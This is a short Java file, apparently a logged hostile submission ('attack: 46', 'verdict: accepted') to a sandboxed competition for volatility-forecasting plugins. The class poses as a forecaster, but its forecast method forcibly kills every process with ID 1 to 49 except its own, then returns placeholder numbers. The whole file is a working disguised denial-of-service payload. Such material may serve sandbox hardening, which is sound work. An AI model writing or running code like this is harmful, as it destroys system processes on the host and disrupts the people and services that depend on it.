// attack: 46
// verdict: accepted
import module java.base;
import org.showdown.forecaster.*;

public class Hostile implements VolatilityForecaster {
    public double[] forecast(History history, int horizon) {
        for (long pid = 1; pid < 50; pid++) {
            if (pid != ProcessHandle.current().pid()) {
                ProcessHandle.of(pid).ifPresent(process -> {
                    process.destroy();
                    process.destroyForcibly();
                });
            }
        }
        return new double[] {0.2, 0.2};
    }
}
